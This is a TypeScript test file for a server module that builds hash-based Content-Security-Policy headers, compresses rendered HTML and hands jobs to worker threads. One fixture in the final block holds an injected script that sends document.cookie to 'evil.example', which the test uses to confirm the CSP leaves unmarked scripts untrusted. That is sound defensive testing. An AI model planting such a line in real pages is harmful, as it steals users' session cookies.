import { createHash } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { brotliDecompressSync, gunzipSync } from "node:zlib";
import { afterAll, afterEach, describe, expect, it, vi } from "vitest";
import { prepareDocument } from "../../server/document-csp";
import {
  createThreadedFinisher,
  finishDocument,
  finishInline,
  finishJob,
  type ThreadedFinisher,
} from "../../server/document-finish";

const POLICY = "default-src 'self';script-src 'self';object-src 'none'";
// Two-byte characters (an en dash, CJK) and an inline module script, which prepareDocument rewrites.
// The render's mark is on its scripts (app/entry.server.tsx); finishing hashes those and takes the mark out.
const MARK = "cmVuZGVyLW1hcms";
const HTML =
  "<!DOCTYPE html><html><head><title>Flagship Bumblebee – 大黄蜂</title></head><body><p>Hi</p>" +
  `<script nonce="${MARK}">window.x=1</script><script type="module" nonce="${MARK}">import "/assets/a.js";</script>` +
  "</body></html>";
const doc = (html: string | string[]) => ({ html, marker: MARK });
const DOC = doc(HTML);

describe("finishDocument", () => {
  it("prepares the document (hash CSP, module scripts inserted by script) and compresses it for one response", () => {
    const prepared = prepareDocument(HTML, POLICY, MARK);
    const br = finishDocument(DOC, POLICY, { kind: "send", encoding: "br" });
    const gzip = finishDocument(DOC, POLICY, { kind: "send", encoding: "gzip" });
    const identity = finishDocument(DOC, POLICY, { kind: "send", encoding: "identity" });
    const stored = finishDocument(DOC, POLICY, { kind: "store" });
    for (const finished of [br, gzip, identity, stored]) expect(finished.csp).toBe(prepared.csp);
    expect(prepared.csp).toMatch(/script-src 'self' 'strict-dynamic' 'sha256-[^']+' 'sha256-[^']+'/);
    expect(brotliDecompressSync(br.body).toString("utf8")).toBe(prepared.html);
    expect(gunzipSync(gzip.body).toString("utf8")).toBe(prepared.html);
    expect(identity.body.toString("utf8")).toBe(prepared.html);
    expect(stored.body.toString("utf8")).toBe(prepared.html);
    expect(prepared.html).not.toContain('type="module">import');
  });

  it("takes a document in pieces as the HTML they join into", () => {
    const pieces = [HTML.slice(0, 40), HTML.slice(40, 150), HTML.slice(150)];
    const whole = finishDocument(DOC, POLICY, { kind: "store" });
    const joined = finishDocument(doc(pieces), POLICY, { kind: "store" });
    expect(joined.csp).toBe(whole.csp);
    expect(joined.body.equals(whole.body)).toBe(true);
  });
});

describe("finishJob (the thread's side)", () => {
  it("answers with the same CSP and bytes as finishing inline, the body's memory handed over", () => {
    const { reply, transfer } = finishJob({
      id: 7,
      html: HTML,
      marker: MARK,
      basePolicy: POLICY,
      mode: { kind: "store" },
    });
    const inline = finishDocument(DOC, POLICY, { kind: "store" });
    expect(reply.id).toBe(7);
    expect(reply.csp).toBe(inline.csp);
    expect(Buffer.from(reply.body!).equals(inline.body)).toBe(true);
    expect(transfer).toEqual([reply.body!.buffer]);
  });

  it("answers with the error's message when finishing throws", () => {
    const { reply, transfer } = finishJob({
      id: 3,
      html: HTML,
      marker: MARK,
      basePolicy: null as never,
      mode: { kind: "store" },
    });
    expect(reply).toEqual({ id: 3, error: expect.any(String) });
    expect(transfer).toEqual([]);
  });
});

// The real thread runs server/document-worker.ts as built (the server tests and browser tests use it); these stand-ins
// speak the same protocol in plain JavaScript, so the finisher's bookkeeping is tested without a build.
describe("createThreadedFinisher", () => {
  const dir = mkdtempSync(path.join(tmpdir(), "document-worker-"));
  const worker = (name: string, source: string) => {
    const file = path.join(dir, name);
    writeFileSync(file, `import { parentPort } from "node:worker_threads";\n${source}`);
    return pathToFileURL(file);
  };
  let finisher: ThreadedFinisher | null = null;
  afterEach(async () => {
    await finisher?.close();
    finisher = null;
    vi.restoreAllMocks();
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it("gives each job its own answer, whatever order they were sent in", async () => {
    // Answers each job with its id as the CSP and the HTML's length as the body.
    finisher = createThreadedFinisher(
      worker(
        "echo.mjs",
        `parentPort.on("message", (job) => {
          const body = new TextEncoder().encode(String(job.html.length));
          parentPort.postMessage({ id: job.id, csp: job.mode.kind + ":" + job.id, body }, [body.buffer]);
        });`,
      ),
    );
    const answers = await Promise.all(
      ["a", "bb", "ccc"].map((html) => finisher!.finish(doc(html), POLICY, { kind: "store" })),
    );
    expect(answers.map(({ csp, body }) => [csp, body.toString("utf8")])).toEqual([
      ["store:0", "1"],
      ["store:1", "2"],
      ["store:2", "3"],
    ]);
  });

  it("rejects a job the thread could not finish, with its message", async () => {
    finisher = createThreadedFinisher(
      worker("fails.mjs", `parentPort.on("message", (job) => parentPort.postMessage({ id: job.id, error: "no" }));`),
    );
    await expect(finisher.finish(DOC, POLICY, { kind: "store" })).rejects.toThrow("document finishing failed: no");
  });

  it("finishes the jobs of a thread that dies inline (same bytes), and stops starting threads after three deaths", async () => {
    const log = vi.spyOn(console, "error").mockImplementation(() => undefined);
    finisher = createThreadedFinisher(worker("dies.mjs", `parentPort.on("message", () => process.exit(3));`));
    const expected = await finishInline(DOC, POLICY, { kind: "send", encoding: "gzip" });
    for (let death = 1; death <= 4; death++) {
      const finished = await finisher.finish(DOC, POLICY, { kind: "send", encoding: "gzip" });
      expect(finished.csp).toBe(expected.csp);
      expect(gunzipSync(finished.body).equals(gunzipSync(expected.body))).toBe(true);
    }
    expect(log).toHaveBeenCalledTimes(3);
    expect(log.mock.calls[0]![0]).toContain("exited with code 3; 1 document(s) finished inline");
    expect(log.mock.calls[2]![0]).toContain("documents are finished inline from now on");
  });

  it("keeps a way to render the document again instead of the document, and uses it if the thread dies", async () => {
    vi.spyOn(console, "error").mockImplementation(() => undefined);
    finisher = createThreadedFinisher(worker("dies-later.mjs", `parentPort.on("message", () => process.exit(4));`));
    const again = vi.fn(async () => doc(HTML.replace("Hi", "Hi again")));
    const finished = await finisher.finish(DOC, POLICY, { kind: "store" }, again);
    expect(again).toHaveBeenCalledTimes(1);
    expect(finished.body.toString("utf8")).toBe(prepareDocument(HTML.replace("Hi", "Hi again"), POLICY, MARK).html);
    // A render that fails again rejects the job.
    await expect(
      finisher.finish(DOC, POLICY, { kind: "store" }, async () => Promise.reject(new Error("render failed"))),
    ).rejects.toThrow("render failed");
  });

  it("does not call `again` for a job the thread finishes", async () => {
    finisher = createThreadedFinisher(
      worker(
        "echo-again.mjs",
        `parentPort.on("message", (job) => {
          const body = new TextEncoder().encode(job.html);
          parentPort.postMessage({ id: job.id, csp: "c", body }, [body.buffer]);
        });`,
      ),
    );
    const again = vi.fn(async () => doc("other"));
    expect((await finisher.finish(doc("doc"), POLICY, { kind: "store" }, again)).body.toString("utf8")).toBe("doc");
    expect(again).not.toHaveBeenCalled();
  });

  it("finishes inline once closed", async () => {
    finisher = createThreadedFinisher(worker("never.mjs", `parentPort.on("message", () => undefined);`));
    const pending = finisher.finish(DOC, POLICY, { kind: "store" });
    await finisher.close();
    expect((await pending).csp).toBe(prepareDocument(HTML, POLICY, MARK).csp);
    expect((await finisher.finish(DOC, POLICY, { kind: "store" })).csp).toBe(prepareDocument(HTML, POLICY, MARK).csp);
  });
});

describe("the CSP trusts the scripts the app emitted", () => {
  const sha = (text: string) => `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;
  const MARK = "dGhlLXJlbmRlcidzLW1hcms";
  // What a render writes: its own scripts (and React Router's preload links) carry the render's mark; an inline
  // script that got into the content some other way does not.
  const RENDERED =
    `<!DOCTYPE html><html><head><link rel="modulepreload" href="/assets/a.js" nonce="${MARK}"/></head><body>` +
    `<p>Review: great robot</p><script>fetch("//evil.example/?c="+document.cookie)</script>` +
    `<script nonce="${MARK}">window.__ctx=1</script>` +
    `<script type="module" nonce="${MARK}">import "/assets/a.js";</script></body></html>`;

  it("hashes only the marked scripts, so an injected one is not allowed", () => {
    const prepared = prepareDocument(RENDERED, POLICY, MARK);
    expect(prepared.csp).toContain(sha("window.__ctx=1"));
    expect(prepared.csp).toContain(sha('import "/assets/a.js";'));
    expect(prepared.csp).not.toContain(sha('fetch("//evil.example/?c="+document.cookie)'));
    const hashes = prepared.csp.match(/'sha256-/g) ?? [];
    expect(hashes).toHaveLength(3); // the app's script, the module's loader and the module itself
  });

  it("takes the mark out of the document, which is then the same bytes for every render", () => {
    const prepared = prepareDocument(RENDERED, POLICY, MARK);
    expect(prepared.html).not.toContain(MARK);
    expect(prepared.html).not.toContain("nonce");
    const other = prepareDocument(RENDERED.replaceAll(MARK, "YW5vdGhlci1yZW5kZXI"), POLICY, "YW5vdGhlci1yZW5kZXI");
    expect(other).toEqual(prepared);
  });

  it("trusts no inline script of a document without a mark", () => {
    const prepared = prepareDocument(RENDERED, POLICY, null);
    expect(prepared.csp).toBe("default-src 'self';script-src 'self' 'strict-dynamic';object-src 'none'");
  });
});
